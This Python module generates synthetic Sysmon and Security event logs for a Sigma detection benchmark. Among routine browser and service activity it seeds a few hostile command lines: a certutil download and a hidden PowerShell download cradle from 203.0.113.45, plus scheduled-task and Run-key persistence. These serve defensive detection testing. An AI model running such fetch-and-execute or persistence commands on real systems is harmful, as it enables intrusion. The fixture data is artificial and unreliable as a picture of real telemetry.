"""Windows telemetry for the Sigma benchmark: Sysmon and Security events as ``evtx_dump -o json`` prints
them, on one host over a week. Mostly a workstation's routine (browsers, updaters, services, logons), with
a little of what SigmaHQ rules are written for (recon, a download cradle, a Run key, a scheduled task).
"""

from __future__ import annotations

import random
from datetime import datetime, timedelta
from typing import Any

_SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
_SECURITY = ("Microsoft-Windows-Security-Auditing", "Security")
_ROUTINE = (
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"{image}" --type=renderer --lang=en-US'),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", '"{image}" --single-argument'),
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ("C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", '"{image}" /background'),
    ("C:\\Windows\\System32\\notepad.exe", '"{image}" C:\\Users\\jdoe\\Documents\\notes.txt'),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"{image}" /recycle'),
)
_SUSPICIOUS = (
    ("C:\\Windows\\System32\\whoami.exe", "whoami /all"),
    ("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -split -f http://203.0.113.45/a.exe a.exe"),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a')",
    ),
    (
        "C:\\Windows\\System32\\schtasks.exe",
        "schtasks /create /sc minute /tn Updater /tr C:\\Users\\Public\\u.exe",
    ),
    (
        "C:\\Windows\\System32\\reg.exe",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u",
    ),
)


def _event(
    provider: tuple[str, str], event_id: int, host: str, at: datetime, n: int, data: dict[str, Any]
) -> dict[str, Any]:
    return {
        "Event": {
            "System": {
                "Provider": {"#attributes": {"Name": provider[0]}},
                "EventID": event_id,
                "Channel": provider[1],
                "Computer": host,
                "EventRecordID": 100_000 + n,
                "TimeCreated": {"#attributes": {"SystemTime": at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
                "Security": {"#attributes": {"UserID": "S-1-5-18"}},
            },
            "EventData": data,
        }
    }


def windows_events(count: int, host: str, end: datetime, seed: int = 11) -> list[dict[str, Any]]:
    """``count`` Sysmon/Security events on ``host`` in the week before ``end``; about one in 500 is
    something a Sigma rule looks for."""
    rng = random.Random(seed)
    events = []
    for n in range(count):
        at = end - timedelta(seconds=rng.randint(60, 6 * 86400))
        image, template = _SUSPICIOUS[n // 500 % len(_SUSPICIOUS)] if n % 500 == 0 else rng.choice(_ROUTINE)
        command = template.format(image=image)
        kind = rng.random()
        if kind < 0.55:  # Sysmon 1: a process started
            data = {
                "Image": image,
                "CommandLine": command,
                "OriginalFileName": image.rsplit("\\", 1)[-1],
                "ParentImage": "C:\\Windows\\explorer.exe",
                "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
                "User": "CORP\\jdoe",
                "IntegrityLevel": "Medium",
                "ProcessId": 1000 + n % 50_000,
                "Hashes": f"SHA256={n:064X}",
            }
            events.append(_event(_SYSMON, 1, host, at, n, data))
        elif kind < 0.70:  # Sysmon 3: a connection
            data = {
                "Image": image,
                "Protocol": "tcp",
                "DestinationIp": f"198.51.100.{n % 250}",
                "DestinationPort": 443,
                "DestinationHostname": f"cdn{n % 40}.example.net",
                "SourceIp": "10.20.1.7",
                "SourcePort": 49152 + n % 10_000,
                "User": "CORP\\jdoe",
            }
            events.append(_event(_SYSMON, 3, host, at, n, data))
        elif kind < 0.80:  # Sysmon 11: a file written
            target = f"C:\\Users\\jdoe\\AppData\\Local\\Temp\\tmp{n:05d}.tmp"
            events.append(_event(_SYSMON, 11, host, at, n, {"Image": image, "TargetFilename": target}))
        elif kind < 0.85:  # Sysmon 13: a registry value set
            data = {
                "EventType": "SetValue",
                "Image": image,
                "TargetObject": f"HKU\\S-1-5-21-1\\Software\\Vendor\\App\\Setting{n % 30}",
                "Details": "DWORD (0x00000001)",
            }
            events.append(_event(_SYSMON, 13, host, at, n, data))
        elif kind < 0.93:  # Security 4688: a process started (audited)
            data = {
                "NewProcessName": image,
                "CommandLine": command,
                "ParentProcessName": "C:\\Windows\\explorer.exe",
                "SubjectUserName": "jdoe",
                "SubjectDomainName": "CORP",
                "TokenElevationType": "%%1938",
            }
            events.append(_event(_SECURITY, 4688, host, at, n, data))
        else:  # Security 4624: a logon
            data = {
                "TargetUserName": "jdoe",
                "TargetDomainName": "CORP",
                "LogonType": rng.choice((2, 3, 7, 11)),
                "IpAddress": "10.20.0.5",
                "WorkstationName": host.split(".")[0],
                "LogonProcessName": "User32",
                "AuthenticationPackageName": "Negotiate",
            }
            events.append(_event(_SECURITY, 4624, host, at, n, data))
    return events
